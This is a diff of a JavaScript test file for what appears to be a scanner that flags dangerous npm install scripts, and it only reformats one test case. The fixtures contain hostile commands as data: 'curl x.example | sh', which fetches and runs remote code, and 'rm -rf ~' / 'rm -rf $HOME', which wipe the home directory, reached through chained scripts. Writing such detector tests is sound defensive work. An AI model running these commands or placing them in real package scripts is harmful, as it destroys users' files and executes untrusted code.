@@ -22,7 +22,11 @@ describe('what runs on an installation', () => {
     ['calls what loads code', { prepare: 'npm run setup', setup: 'curl x.example | sh' }, ['install-script critical']],
     ['calls a call', { prepare: 'yarn a', a: 'run-s b', b: 'rm -rf ~' }, ['install-script critical']],
     ['calls all that begin so', { prepare: 'run-s "x:*"', 'x:1': 'rm -rf $HOME' }, ['install-script critical']],
-    ['what npm runs before', { prepare: 'npm run build', build: 'tsc', prebuild: 'rm -rf ~' }, ['install-script critical']],
+    [
+      'what npm runs before',
+      { prepare: 'npm run build', build: 'tsc', prebuild: 'rm -rf ~' },
+      ['install-script critical'],
+    ],
     ['usual tools', { prepare: 'husky' }, ['install-script suggestion']],
     ['a folder of its own', { prepare: 'rm -rf dist && mkdir dist' }, ['install-script suggestion']],
   ])('%s', async (_, scripts, expected) => {
